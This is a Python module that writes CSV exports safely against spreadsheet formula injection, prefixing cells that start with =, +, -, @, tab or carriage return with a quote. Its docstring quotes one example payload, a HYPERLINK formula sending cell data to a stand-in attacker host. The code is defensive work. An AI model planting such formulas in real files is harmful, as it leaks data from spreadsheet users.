"""CSV that a spreadsheet opens as data, never as formulas: every CSV export writes
through `CsvTable`.

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@`
as a formula, and also one that begins with a tab or a carriage return (they skip
those). A resident's description `=HYPERLINK("http://evil.example/?"&A1, "Click")` would
otherwise be a live formula in the city's spreadsheet (CSV injection). As OWASP
recommends (https://owasp.org/www-community/attacks/CSV_Injection), such a text cell is
prefixed with a single quote, which the spreadsheet shows as text, and every text cell
is written in double quotes.

Which cells are text is decided by the column, not by the value: `-3.5` in a numeric
column (a longitude, a figure) must stay a number someone can sum, while `-3.5` typed
into a description is text and gets its quote like any other. Numeric columns accept
numbers only, so text can never reach the file through one unneutralised.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Collection, Iterable, Sequence
from decimal import Decimal

# What a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """A text cell as the spreadsheet must show it: with a leading `'` if it could run."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class CsvTable:
    """Lines of CSV (CRLF, RFC 4180) for a fixed list of columns.

    Text cells are neutralised and always quoted; numeric columns (named in `numeric`)
    take int, float, Decimal or None and are written bare, so spreadsheets read numbers.
    """

    def __init__(self, columns: Sequence[str], *, numeric: Collection[str] = ()) -> None:
        unknown = set(numeric) - set(columns)
        if unknown:
            raise ValueError(f"numeric columns not in the table: {sorted(unknown)}")
        self.columns = tuple(columns)
        self._numeric = tuple(c in numeric for c in self.columns)
        self._buf = io.StringIO()
        # QUOTE_STRINGS: quotes around every str, none around numbers and None (empty).
        self._writer = csv.writer(self._buf, quoting=csv.QUOTE_STRINGS, lineterminator="\r\n")

    def header(self) -> str:
        return self._line([neutralise(c) for c in self.columns])

    def row(self, values: Sequence[object]) -> str:
        if len(values) != len(self.columns):
            raise ValueError(f"{len(values)} values for {len(self.columns)} columns")
        return self._line(
            [
                self._cell(col, num, v)
                for col, num, v in zip(self.columns, self._numeric, values, strict=True)
            ]
        )

    def rows(self, rows: Iterable[Sequence[object]]) -> str:
        return "".join(self.row(r) for r in rows)

    @staticmethod
    def _cell(column: str, numeric: bool, value: object) -> object:
        if numeric:
            # bool is an int to Python, but "True" in a numeric column is a mistake.
            if value is None or (
                isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)
            ):
                return value
            raise TypeError(f"column {column!r} is numeric; got {type(value).__name__} {value!r}")
        return "" if value is None else neutralise(str(value))

    def _line(self, cells: list[object]) -> str:
        self._writer.writerow(cells)
        line = self._buf.getvalue()
        self._buf.seek(0)
        self._buf.truncate()
        return line
